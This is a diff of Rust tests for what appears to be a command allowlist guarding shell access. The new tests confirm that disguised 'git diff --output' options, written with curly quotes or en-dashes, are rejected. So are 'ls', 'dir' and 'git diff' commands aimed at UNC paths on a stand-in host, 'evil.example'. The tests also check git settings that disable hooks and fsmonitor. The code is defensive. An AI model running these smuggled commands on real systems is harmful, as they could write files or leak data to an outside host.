@@ -104,6 +104,19 @@ fn listed_commands_are_plain_ones() {
     }
     assert!(is_listed("GIT Status -s", &listed, System::Windows));
     assert!(is_listed(r"dir C:\Users", &listed, System::Windows));
+    for command in [
+        "git diff \u{201c}--outp\u{201d}ut=x",
+        "git diff \u{2018}--outp\u{2019}ut=x",
+        "git diff \u{2013}\u{2013}output=x",
+        r"ls \\evil.example\what-i-know",
+        "ls //evil.example/what-i-know",
+        r"ls '\\evil.example\x'",
+        r"git diff --no-index a \\evil.example\x\y",
+        r"dir FileSystem::\\evil.example\x",
+    ] {
+        assert!(!is_listed(command, &listed, System::Windows), "{command}");
+    }
+    assert!(is_listed("git diff \u{2013}x", &listed, System::Unix), "a letter like others there");
     assert!(!is_listed("ls", &[String::new(), " ".into()], System::Unix), "an empty entry lists nothing");
 }
 
@@ -299,12 +312,21 @@ fn the_environment_has_no_secrets() {
 
 #[test]
 fn settings_of_git_come_after_those_that_are_there() {
-    let names = |already| listed_git_settings(already).into_iter().map(|(name, value)| format!("{name}={value}"));
+    let names = |already, subcommand| {
+        let variables = listed_git_settings(already, subcommand).into_iter();
+        variables.map(|(name, value)| format!("{name}={value}")).collect::<Vec<_>>()
+    };
     let want = ["GIT_CONFIG_COUNT=1", "GIT_CONFIG_KEY_0=core.fsmonitor", "GIT_CONFIG_VALUE_0=false"];
-    assert!(names(None).eq(want));
+    assert_eq!(names(None, None), want);
+    assert_eq!(names(None, Some("commit")), want, "hooks of what does more than look are the person's choice");
     let want = ["GIT_CONFIG_COUNT=3", "GIT_CONFIG_KEY_2=core.fsmonitor", "GIT_CONFIG_VALUE_2=false"];
-    assert!(names(Some("2")).eq(want));
-    assert_eq!(names(Some("many")).next().as_deref(), Some("GIT_CONFIG_COUNT=1"));
+    assert_eq!(names(Some("2"), Some("")), want);
+    assert_eq!(names(Some("many"), None)[0], "GIT_CONFIG_COUNT=1");
+    let looks = names(Some("2"), Some("status"));
+    for want in ["GIT_CONFIG_COUNT=4", "GIT_CONFIG_KEY_3=core.hooksPath", "GIT_OPTIONAL_LOCKS=0", "GIT_NO_LAZY_FETCH=1"]
+    {
+        assert!(looks.iter().any(|variable| variable == want), "{want} in {looks:?}");
+    }
 }
 
 #[test]
